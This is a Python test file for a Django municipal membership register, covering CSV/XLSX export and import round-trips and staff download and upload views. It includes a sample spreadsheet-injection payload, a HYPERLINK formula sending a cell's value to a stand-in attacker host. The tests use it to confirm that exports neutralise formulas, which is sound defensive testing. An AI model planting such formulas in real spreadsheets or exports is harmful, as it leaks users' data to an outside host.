"""The register exported as CSV or XLSX imports back to the same register."""

import datetime

import pytest

from bibblix.members import register_io, services
from bibblix.members.models import Membership, Organisation

FIELDS = [
    "name",
    "municipality_code",
    "county",
    "population",
    "population_year",
    "organisation_number",
    "organisation_number_is_placeholder",
    "address_line",
    "street",
    "postcode",
    "city",
    "country_code",
    "peppol_id",
    "invoice_reference",
]


@pytest.fixture
def register(ale, boras, region):
    Organisation.objects.filter(pk=ale.pk).update(
        organisation_number="212000-1439",
        peppol_id="0007:2120001439",
        address_line="Fakturaservice",
        street="Box 73",
        postcode="449 80",
        city="Alafors",
        invoice_reference="BIB-1440",
        county="Västra Götaland",
        population_year=2024,
    )
    Organisation.objects.filter(pk=boras.pk).update(organisation_number_is_placeholder=True)
    services.record_membership(
        ale, Membership.Route.THROUGH_GROUP, datetime.date(2021, 1, 1), region
    )
    services.record_membership(boras, Membership.Route.DIRECT, datetime.date(2019, 1, 1))


def snapshot():
    rows = Organisation.objects.filter(kind="municipality").order_by("name").values(*FIELDS)
    routes = [
        (m.organisation.name, m.route, m.group_id, m.start_date)
        for m in Membership.objects.select_related("organisation").order_by("pk")
    ]
    return list(rows), routes


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_export_then_import_into_an_empty_register_gives_the_same_register(register, file_format):
    organisations = Organisation.objects.all()
    content = (
        register_io.export_csv(organisations).encode()
        if file_format == "csv"
        else register_io.export_xlsx(organisations)
    )
    before_rows, _ = snapshot()
    Membership.objects.filter(organisation__kind="municipality").delete()
    Organisation.objects.filter(kind="municipality").update(
        population=None,
        peppol_id="",
        address_line="",
        street="",
        postcode="",
        city="",
        organisation_number="",
        invoice_reference="",
    )
    report = register_io.import_register(register_io.read_rows(f"r.{file_format}", content))
    assert report.errors == []
    after_rows, routes = snapshot()
    assert after_rows == before_rows
    assert (
        "Ale",
        "through_group",
        Organisation.objects.get(abbreviation="VGR").pk,
        datetime.date(2021, 1, 1),
    ) in routes


def test_importing_an_unchanged_export_changes_nothing(register):
    content = register_io.export_csv(Organisation.objects.all()).encode()
    report = register_io.import_register(register_io.read_rows("r.csv", content))
    assert report.errors == [] and report.created == [] and report.updated == []
    assert sorted(report.unchanged) == ["Ale", "Borås"]


def test_staff_download_both_formats(client, coordinator, register):
    client.force_login(coordinator)
    csv_response = client.get("/staff/members/organisation/export/csv/")
    assert csv_response["Content-Type"].startswith("text/csv")
    assert "0007:2120001439" in csv_response.content.decode()
    xlsx = client.get("/staff/members/organisation/export/xlsx/")
    assert xlsx.content[:2] == b"PK"


def test_staff_import_page_reports_bad_rows(client, coordinator, db):
    from django.core.files.uploadedfile import SimpleUploadedFile

    client.force_login(coordinator)
    upload = SimpleUploadedFile(
        "register.csv",
        "name,municipality_code,county,population,membership,region_group\n"
        "Ale,1440,Västra Götaland,32500,direct,\nHjo,1497,Västra Götaland,x,direct,\n".encode(),
    )
    html = client.post("/staff/members/organisation/import/", {"file": upload}).content.decode()
    assert "Invånarantalet måste vara ett heltal: x" in html
    assert Organisation.objects.filter(name="Ale").exists()


FORMULA = '=HYPERLINK("http://evil.example/?"&A3,"Klicka")'


def test_a_formula_typed_by_a_municipality_is_exported_as_text(register, ale):
    Organisation.objects.filter(pk=ale.pk).update(invoice_reference=FORMULA)
    organisations = Organisation.objects.all()
    csv_text = register_io.export_csv(organisations)
    assert "'" + FORMULA.replace('"', '""') in csv_text
    from io import BytesIO

    from openpyxl import load_workbook

    sheet = load_workbook(BytesIO(register_io.export_xlsx(organisations))).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == FORMULA]
    assert cells and all(cell.data_type == "s" for cell in cells)


def test_a_guarded_formula_imports_back_unchanged(register, ale):
    Organisation.objects.filter(pk=ale.pk).update(invoice_reference=FORMULA)
    rows = dict(
        register_io.read_rows("r.csv", register_io.export_csv(Organisation.objects.all()).encode())
    )
    assert any(row["invoice_reference"] == FORMULA for row in rows.values())
